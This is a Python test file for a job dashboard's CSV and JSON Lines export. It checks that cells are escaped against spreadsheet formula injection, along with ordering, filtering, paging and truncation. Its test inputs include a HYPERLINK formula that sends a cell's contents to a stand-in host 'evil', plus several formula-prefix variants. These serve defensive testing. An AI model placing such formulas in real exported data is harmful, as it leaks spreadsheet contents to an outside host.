"""Jobs as a file: all that a filter matches, and nothing in it that a spreadsheet would calculate."""

import csv
import io
import json

import pytest

from greenscale_dashboard.view.export import FORMATS, PAGE_JOBS, cell, export
from greenscale_dashboard.view.listing import Filter, Position
from greenscale_jobs import Finished, JobClient, JobQueue, JobState, Outcome, Parameters, Usage
from greenscale_testing.local_redis import Clock

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(HOSTILE, f"'{HOSTILE}", id="a formula"),
        pytest.param("+1", "'+1", id="plus"),
        pytest.param("-1", "'-1", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t'=1", id="a tab before it"),
        pytest.param("\r=1", "'\r'=1", id="a return before it"),
        pytest.param("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1", id="a wide one"),
        pytest.param("a;=cmd", "a;'=cmd", id="after a semicolon"),
        pytest.param(";=cmd", ";'=cmd", id="after a semicolon at the beginning"),
        pytest.param("a\t@SUM(A1)", "a\t'@SUM(A1)", id="after a tab"),
        pytest.param("a\n-1\r\n+1", "a\n'-1\r\n'+1", id="in later lines"),
        pytest.param("a;\N{FULLWIDTH PLUS SIGN}1", "a;'\N{FULLWIDTH PLUS SIGN}1", id="a wide one after a semicolon"),
        pytest.param("1 + 1 = 2; a-b, x=y", "1 + 1 = 2; a-b, x=y", id="a text"),
        pytest.param("", "", id="empty"),
        pytest.param(None, "", id="not known"),
    ],
)
def test_a_cell_is_never_a_formula(text: str | None, expected: str) -> None:
    assert cell(text) == expected


async def finish(queue: JobQueue, prompts: list[str], answer: str = "because") -> None:
    for prompt in prompts:
        await queue.submit(prompt, parameters=Parameters(system="s"))
    while claims := await queue.claim("worker-1", 100):
        outcome = Outcome(model="m", usage=Usage(prompt_tokens=3, completion_tokens=4))
        await queue.finish([Finished(claim, answer, outcome) for claim in claims])


async def test_a_csv_holds_every_job_as_a_row_that_can_be_read_back(queue: JobQueue, client: JobClient) -> None:
    prompts = [HOSTILE, 'a "quoted", text\nof two lines', "Bonjour, ça va ?"]
    await finish(queue, prompts, answer="-because")
    exported = export(client, Filter(), FORMATS["CSV"], on_page=lambda _: None)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))

    assert exported.content.startswith(b"\xef\xbb\xbf")  # or a spreadsheet shows "Ã§a va"
    assert (exported.jobs, exported.complete) == (3, True)
    assert {row["prompt"] for row in rows} == {f"'{HOSTILE}", *prompts[1:]}
    assert {row["answer"] for row in rows} == {"'-because"}
    assert {(row["state"], row["attempts"], row["prompt tokens"], row["answer tokens"]) for row in rows} == {
        ("done", "1", "3", "4")
    }


async def test_a_csv_begins_with_the_job_that_ended_last(queue: JobQueue, clock: Clock, client: JobClient) -> None:
    """What a spreadsheet shows first is what the page shows first: whichever was sent first, the newest end."""
    for prompt in ("first", "second", "third"):
        await queue.submit(prompt)
    first, second, third = await queue.claim("worker-1", 3) or []
    for claim in (second, third, first):
        await queue.finish([Finished(claim, "because", Outcome())])
        clock.advance(1)
    exported = export(client, Filter(), FORMATS["CSV"], on_page=lambda _: None)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))

    assert [row["prompt"] for row in rows] == ["first", "third", "second"]
    assert [row["finished"] for row in rows] == sorted((row["finished"] for row in rows), reverse=True)


async def test_json_lines_hold_what_is_known_of_each_job(queue: JobQueue, client: JobClient) -> None:
    await finish(queue, [HOSTILE])
    await queue.submit("fails")
    (claim,) = await queue.claim("worker-1") or []
    await queue.bury(claim, "TooLong", "the prompt is too long")
    exported = export(client, Filter(), FORMATS["JSON Lines"], on_page=lambda _: None)
    dead, done = (json.loads(line) for line in exported.content.splitlines())

    assert (done["prompt"], done["result"], done["parameters"]) == (HOSTILE, "because", {"system": "s"})
    assert done["submittedAt"].endswith("Z")
    assert [(error["reason"], error["attempt"]) for error in dead["errors"]] == [("TooLong", 1)]


async def test_an_export_is_read_page_by_page_and_reports_how_far_it_is(queue: JobQueue, client: JobClient) -> None:
    count = 2 * PAGE_JOBS + 1
    await finish(queue, [f"why {number}" for number in range(count)])
    reached: list[Position] = []
    exported = export(client, Filter((JobState.DONE,)), FORMATS["JSON Lines"], on_page=reached.append)

    assert exported.jobs == len({json.loads(line)["id"] for line in exported.content.splitlines()}) == count
    assert [position.found for position in reached] == [PAGE_JOBS, 2 * PAGE_JOBS]


async def test_an_export_holds_only_what_the_filter_matches(queue: JobQueue, client: JobClient) -> None:
    await finish(queue, ["an apple", "a pear"])
    exported = export(client, Filter(text="apple"), FORMATS["JSON Lines"], on_page=lambda _: None)

    assert [json.loads(line)["prompt"] for line in exported.content.splitlines()] == ["an apple"]


async def test_an_export_that_grew_too_large_says_that_it_is_cut(queue: JobQueue, client: JobClient) -> None:
    await finish(queue, ["why"] * (PAGE_JOBS + 1))
    exported = export(client, Filter(), FORMATS["CSV"], on_page=lambda _: None, max_bytes=1)

    assert (exported.jobs, exported.complete) == (PAGE_JOBS, False)
